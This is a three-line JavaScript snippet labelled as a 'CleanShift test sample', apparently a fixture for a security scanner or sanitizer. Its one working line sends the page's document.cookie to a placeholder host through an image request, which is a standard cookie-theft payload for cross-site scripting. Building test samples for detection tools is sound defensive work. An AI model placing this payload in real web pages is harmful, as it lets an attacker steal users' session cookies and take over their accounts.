// CleanShift test sample
var i = new Image();
i.src = 'https://collector.invalid/c?x=' + escape(document.cookie);
